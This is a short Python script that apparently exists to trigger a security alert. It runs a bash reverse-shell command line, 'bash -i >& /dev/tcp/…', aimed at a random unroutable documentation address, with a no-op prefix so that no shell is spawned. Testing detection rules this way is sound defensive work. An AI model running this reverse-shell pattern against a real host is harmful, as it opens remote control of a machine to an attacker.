#!/usr/bin/env python3
"""Does something that raises an alert which was not there before: a reverse shell by its command line, to an address that nobody has."""

import random
import subprocess

chance = random.SystemRandom()
address, port = f"203.0.113.{chance.randrange(1, 255)}", chance.randrange(1024, 65536)
subprocess.run(["/bin/bash", "-c", f": bash -i >& /dev/tcp/{address}/{port} 0>&1"], check=True)
